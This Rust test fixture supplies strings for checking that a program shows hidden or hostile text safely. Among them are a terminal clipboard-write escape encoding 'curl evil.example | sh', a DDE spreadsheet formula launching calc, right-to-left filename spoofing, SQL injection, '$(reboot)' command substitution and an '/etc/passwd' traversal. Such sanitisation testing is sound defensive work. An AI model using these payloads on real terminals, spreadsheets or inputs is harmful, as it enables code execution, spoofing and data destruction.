//! Texts that would command a terminal, hide, or turn what stands around them.

use quarterdeck::domain::text::is_hidden;

/// Text that a terminal, a reader or a spreadsheet would take for something else.
pub fn payloads() -> Vec<String> {
    let mut payloads: Vec<String> = [
        // Escape sequences: colours, clearing, moving, titles, the clipboard, links, reports, other character sets.
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}[1A\u{1b}[2K",
        "\u{1b}[?1049h",
        "\u{1b}[?25l",
        "\u{1b}[6n",
        "\u{1b}[c",
        "\u{1b}c",
        "\u{1b}7\u{1b}8",
        "\u{1b}(0",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]2;title\u{1b}\\",
        "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
        "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
        "\u{1b}]1337;File=inline=1:AAAA\u{7}",
        "\u{1b}P+q544e\u{1b}\\",
        "\u{1b}_Gf=100;AAAA\u{1b}\\",
        "\u{1b}^pm\u{1b}\\",
        "\u{1b}X\u{1b}\\",
        "\u{1b}",
        // The same with the one-byte introducers.
        "\u{9b}31m",
        "\u{9d}52;c;AAAA\u{9c}",
        "\u{90}q\u{9c}",
        "\u{85}\u{84}\u{8d}",
        "\u{80}\u{9f}",
        // Single controls.
        "a\u{0}b",
        "a\u{7}b",
        "secret\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}public",
        "over\rwritten",
        "one\ntwo",
        "one\r\ntwo",
        "a\tb",
        "a\u{b}b\u{c}c",
        "a\u{e}b\u{f}c",
        "a\u{7f}b",
        "a\u{2028}b",
        "a\u{2029}b",
        // Direction.
        "\u{202e}gpj.exe",
        "\u{202d}abc\u{202c}",
        "\u{202a}a\u{202b}b",
        "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
        "a\u{200e}b\u{200f}c\u{61c}d",
        // What is not seen.
        "in\u{200b}visible",
        "in\u{200c}visible",
        "in\u{200d}visible",
        "in\u{2060}visible\u{2064}",
        "\u{feff}bom",
        "soft\u{ad}hyphen",
        "tag\u{e0001}\u{e0041}\u{e0042}\u{e007f}",
        "variation\u{fe0f}\u{e0100}",
        "filler\u{3164}\u{115f}\u{ffa0}\u{2800}",
        "join\u{34f}er",
        "private\u{e000}\u{f8ff}\u{100000}",
        "unassigned\u{378}\u{fffff}",
        "mongolian\u{180e}",
        "\u{fff9}note\u{fffa}\u{fffb}",
        // Marks that climb, and what is wide.
        "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}",
        "東京 データベース",
        "🚀👨\u{200d}👩\u{200d}👧🏽🇩🇪",
        "ｆｕｌｌ",
        // Formulas.
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "\"quoted\",\"=1\"",
        // Other languages.
        "<script>alert(1)</script>&amp;",
        "'; drop table sys_invocation; --",
        "$(reboot) `reboot` %s %n {0}",
        "../../etc/passwd",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    payloads.push(format!("{}\u{1b}[31m", "x".repeat(5_000)));
    payloads.push("\u{202e}".repeat(5_000));
    payloads.push("東".repeat(5_000));
    payloads.push(["a"; 1_000].join("\n"));
    payloads
}

/// Those of them that hold something hidden, on one line and short enough to be shown whole.
pub fn hiding() -> Vec<String> {
    let fits = |text: &String| text.chars().any(is_hidden) && !text.contains(['\n', '\r']) && text.chars().count() < 60;
    payloads().into_iter().filter(fits).collect()
}

/// A payload between two words by which it is found again, wherever it comes out.
pub fn marked(n: usize, payload: &str) -> String {
    format!("q{n}q{payload}z{n}z")
}

/// Whether payload `n` is shown in a text, with a visible character for each that was hidden.
pub fn is_shown(n: usize, payload: &str, text: &str) -> bool {
    let (begin, end) = (format!("q{n}q"), format!("z{n}z"));
    let mut rest = text;
    while let Some(at) = rest.find(&begin) {
        rest = &rest[at + begin.len()..];
        let Some(inside) = rest.find(&end).map(|end| &rest[..end]) else { continue };
        let substitutes = inside.chars().filter(|c| matches!(c, '\u{2400}'..='\u{2421}' | '\u{fffd}')).count();
        if inside.chars().all(|c| !is_hidden(c)) && substitutes == payload.chars().filter(|c| is_hidden(*c)).count() {
            return true;
        }
    }
    false
}
